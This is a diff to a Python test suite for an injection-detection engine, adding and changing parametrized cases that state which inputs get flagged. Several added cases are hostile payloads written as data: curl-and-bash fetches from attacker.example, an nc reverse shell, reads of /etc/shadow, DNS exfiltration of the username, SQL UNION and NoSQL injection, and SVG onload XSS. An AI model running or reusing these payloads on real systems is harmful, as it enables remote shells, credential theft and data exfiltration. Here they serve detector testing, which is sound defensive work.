@@ -108,7 +108,11 @@ def test_a_sensitive_file_named_in_a_sentence_is_a_mention(
     [
         ("| Name | Type | Default |", False),
         ("| id | name | email |", False),
-        ("Parameter | Type | Description", False),
+        # Without a pipe at each end a row could be a pipeline's middle ("127.0.0.1 | x | env").
+        ("Parameter | Type | Description", True),
+        ("127.0.0.1 | x | env", True),
+        ("127.0.0.1 | `curl attacker.example/s.sh -o /tmp/s.sh; bash /tmp/s.sh` | x", True),
+        ("| a | `curl x/s.sh -o /tmp/s; sh /tmp/s` | b |", True),
         ("| File | Size | Time |", False),
         ("| Name | Host name | Port |", False),
         ("page=2&id=15&sort=asc", False),
@@ -190,14 +194,21 @@ def test_documentation_naming_template_delimiters(
         ("&copy /b a+b c", True),
         ("x&TYPE C:\\boot.ini", True),
         ("x\nhostname -f", True),
+        ("127.0.0.1&copy; nc attacker.example 4444 -e sh", True),
+        ("127.0.0.1&copy; cat /etc/shadow", True),
+        ("127.0.0.1;Id;printenv", True),
+        ("127.0.0.1 & Ping -n 30 localhost", True),
+        ("127.0.0.1 & Nslookup %USERNAME%.attacker.example", True),
+        ("&copy; 2024 Acme Inc. All rights reserved.", False),
     ],
 )
 def test_mixed_case_words_and_entities_are_not_commands(
     engine: DetectionEngine, value: str, flagged: bool
 ) -> None:
-    """A word in mixed case after a line break (a traceback's ``File``, an SSH config's
-    ``HostName``) is not a Unix command, nor is an HTML entity after ``&``; lower- and upper-case
-    commands after a separator still count."""
+    """A word in mixed case on an indented line (a traceback's ``File``, an SSH config's
+    ``HostName``) is not a Unix command, nor is an HTML entity after ``&`` with no command after
+    it; after ``&``, ``;`` or ``|`` any case counts (cmd reads any), and a let-off first match
+    hides nothing after it."""
     assert engine.detect(value)["is_threat"] is flagged
 
 
@@ -206,7 +217,8 @@ def test_mixed_case_words_and_entities_are_not_commands(
     [
         ('import { Button } from "../../components/Button";', False),
         ('"extends": "../../tsconfig.base.json"', False),
-        ("include ../../Makefile.common", False),
+        ("include ../../Makefile.common", True),
+        ('@import "../../../../app/config/secrets";', True),
         ('<img src="../../img/logo.png">', False),
         ("../../components/Button", True),
         ("include ../../../../../../../x", True),
@@ -232,6 +244,9 @@ def test_parent_steps_to_a_neighbouring_source_file(
         ("| grep x", True),
         ("x || head", True),
         ("x | head; id", True),
+        ("127.0.0.1 | tail -n 100 .env", True),
+        ("127.0.0.1 | grep -r password", True),
+        ("kubectl logs api | tr a-z A-Z | head -n 20", False),
     ],
 )
 def test_a_pipe_into_a_text_filter_runs_nothing_new(
@@ -296,9 +311,14 @@ def test_names_in_text_and_targets_in_code(
 @pytest.mark.parametrize(
     ("value", "flagged"),
     [
+        # A UNION stands even in a query that opens the value: IN (…) sinks take a whole query.
         ("WITH RECURSIVE tree AS (SELECT id, parent_id FROM categories WHERE parent_id IS NULL "
          "UNION ALL SELECT c.id, c.parent_id FROM categories c JOIN tree t ON c.parent_id = t.id)"
-         " SELECT * FROM tree;", False),
+         " SELECT * FROM tree;", True),
+        ("select 1 union select password from users", True),
+        ("select id from products where (select count(*) from users)>0", True),
+        ("select' <> 1 and '1'='1", True),
+        ("select' order by 5,'", True),
         ("select distinct country from users order by country;", False),
         ("select * from t where id in (select id from u)", False),
         ("select 1 union select table_name from information_schema.tables", True),
@@ -354,11 +374,14 @@ def test_look_alikes_of_the_new_techniques_stay_clean(engine: DetectionEngine, v
          "</svg>", False),
         ('{"shell":"/bin/bash","home":"/home/ana"}', False),
         ("WITH monthly AS (\n  SELECT date_trunc('month', created_at) AS m, count(*) AS n\n"
-         "  FROM signups GROUP BY 1\n) SELECT * FROM monthly;", False),
+         "  FROM signups GROUP BY 1\n) SELECT * FROM monthly;", True),
         ("Bash: how do I loop over files with spaces in their names? `for f in $(ls *.txt)` splits"
          " them into pieces.", False),
-        ("> **Note:** on Windows, use `set` instead of `export`:\n>\n> set NODE_ENV=production",
-         False),
+        # A leading ">" is a redirection to a shell, which then runs the substitution.
+        ("> `nc attacker.example 4444 -e sh` opens the tunnel for you", True),
+        ('<svg x=">" onload=alert(1)><path d="M0"/></svg>', True),
+        ("<link/rel=stylesheet href=//evil.example/x.css>", True),
+        ("admin' && db.getCollectionNames().length > 0 && 'the rest of words", True),
         ('{@if cond="1"}x{/if}', True),
         ('<link rel="import" href="https://evil.example/x.html">', True),
         ("<svg onload=alert(1)>", True),
